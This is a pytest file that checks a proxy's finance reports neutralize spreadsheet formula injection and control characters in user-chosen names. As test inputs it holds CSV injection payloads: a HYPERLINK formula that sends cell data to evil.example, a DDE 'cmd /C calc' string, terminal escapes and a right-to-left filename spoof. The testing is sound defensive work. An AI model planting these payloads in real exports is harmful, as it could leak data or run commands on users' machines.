"""Text a client or a team file chose (a `user`, a team name, a cost center) reaches finance
CSVs, which spreadsheets open: none of it may start a formula there."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
from collections.abc import Iterator

import pytest

from tests.conftest import (
    DESIGN_KEY,
    Simulator,
    Tollgate,
    key_hash,
    start_tollgate,
    write_config,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
QUOTED = ["'=1+1", "'plain", "''"]
"""Values that start with an apostrophe already: told apart from those it neutralizes."""
CONTROLS = ["\x1b]0;owned\x07\x1b[2J", "bob\ncarol  999  999", "eve\u202egnp.exe"]
"""A terminal escape, a line break that would forge a table row, a right-to-left override."""
TEAMS = {
    "evil": f"""
        name: design
        cost_center: "=1+CC"
        keys:
          - {{id: web-app, sha256: {key_hash(DESIGN_KEY)}}}
    """,
}


@pytest.fixture(scope="module")
def gate(simulator: Simulator, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tollgate]:
    root = tmp_path_factory.mktemp("injection")
    write_config(root, f"{simulator.url}/v1", teams=TEAMS)
    proxy = start_tollgate(root)
    client = proxy.client()
    for user in FORMULAS + QUOTED + CONTROLS:
        client.images.generate(
            model="gpt-image-1-mini", prompt="a cat", size="1024x1024", quality="low", user=user
        )
    yield proxy
    proxy.stop()


def cli(gate: Tollgate, *args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "proxy", "report", *args, "--config", str(gate.root)],
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin"},
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def formula_cells(text: str) -> list[str]:
    """The cells a spreadsheet would run: text starting with =, +, -, @, a tab or a CR
    (fullwidth signs too), other than a plain number."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [
        c
        for c in cells
        if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
        and not c.lstrip("-").replace(".", "", 1).isdigit()
    ]


@pytest.mark.parametrize(
    "args",
    [
        ("--by", "team,cost_center,user"),
        ("--statement", time.strftime("%Y-%m", time.gmtime())),
        ("--audit",),
    ],
    ids=["report", "statement", "audit"],
)
def test_no_csv_cell_starts_a_formula(gate: Tollgate, args: tuple[str, ...]) -> None:
    text = cli(gate, *args, "--format", "csv")
    assert "'=1+CC" in text or "'=HYPERLINK" in text  # the values are there, as text
    assert formula_cells(text) == []


def test_the_neutralized_values_keep_their_text_after_an_apostrophe(gate: Tollgate) -> None:
    rows = list(csv.DictReader(io.StringIO(cli(gate, "--by", "user", "--format", "csv"))))
    users = {r["user"] for r in rows} - set(CONTROLS)
    assert users == {"'" + u.replace("\r", "\n") for u in FORMULAS + QUOTED}
    assert all(r["cost_usd"][0].isdigit() for r in rows)


def test_every_csv_value_is_read_back_exactly_by_dropping_one_leading_apostrophe(
    gate: Tollgate,
) -> None:
    """The user `'=1+1` and the user `=1+1` were both written `'=1+1`: two rows no script
    could tell apart. An apostrophe is added to every value that starts with one too."""
    rows = list(csv.DictReader(io.StringIO(cli(gate, "--by", "user", "--format", "csv"))))
    read = [r["user"][1:] if r["user"].startswith("'") else r["user"] for r in rows]
    sent = [u.replace("\r", "\n") for u in FORMULAS + QUOTED + CONTROLS]
    assert sorted(read) == sorted(sent)


def test_json_keeps_the_values_as_they_were_sent(gate: Tollgate) -> None:
    rows = json.loads(cli(gate, "--by", "user", "--format", "json"))["rows"]
    assert {r["user"] for r in rows} == set(FORMULAS + QUOTED + CONTROLS)


def test_rows_are_recorded_for_every_user(gate: Tollgate) -> None:
    assert sorted(r["user"] for r in gate.rows()) == sorted(FORMULAS + QUOTED + CONTROLS)


def test_a_period_no_report_can_read_is_refused_not_a_crash(gate: Tollgate) -> None:
    period = ["--from", "0001-01-01", "--to", "9999-12-31"]
    done = subprocess.run(
        [sys.executable, "-m", "proxy", "report", *period, "--config", str(gate.root)],
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin"},
    )
    assert done.returncode != 0
    assert "outside the dates a report covers" in done.stderr
    assert "Traceback" not in done.stderr


def test_text_reports_show_control_characters_as_escapes(gate: Tollgate) -> None:
    text = cli(gate, "--by", "user", "--format", "table")
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    assert "\\x1b]0;owned\\x07\\x1b[2J" in text and "eve\\u202egnp.exe" in text
    # One line per user, the total and the title's: no row forged by a line break.
    assert "bob\\ncarol" in text
    assert not any(line.startswith("carol") for line in text.splitlines())
    statement = cli(gate, "--statement", time.strftime("%Y-%m", time.gmtime()))
    assert all(line.isprintable() for line in statement.splitlines())


@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
def test_a_report_is_utf_8_whatever_the_locale_says(gate: Tollgate, encoding: str) -> None:
    """A CSV is UTF-8, the admin API's bytes: standard output in a Latin-1 locale stopped
    at a `user` outside Latin-1 (the right-to-left override) with a UnicodeEncodeError."""

    def report(env: dict[str, str], *args: str) -> bytes:
        done = subprocess.run(
            [sys.executable, "-m", "proxy", "report", *args, "--config", str(gate.root)],
            capture_output=True,
            timeout=60,
            env={"PATH": "/usr/bin:/bin", **env},
        )
        assert done.returncode == 0, done.stderr.decode(errors="replace")
        return done.stdout

    for args in (("--by", "user", "--format", "csv"), ("--audit", "--format", "csv")):
        utf8 = report({"PYTHONIOENCODING": "utf-8"}, *args)
        assert "eve\u202egnp.exe" in utf8.decode()
        assert report({"PYTHONIOENCODING": encoding}, *args) == utf8
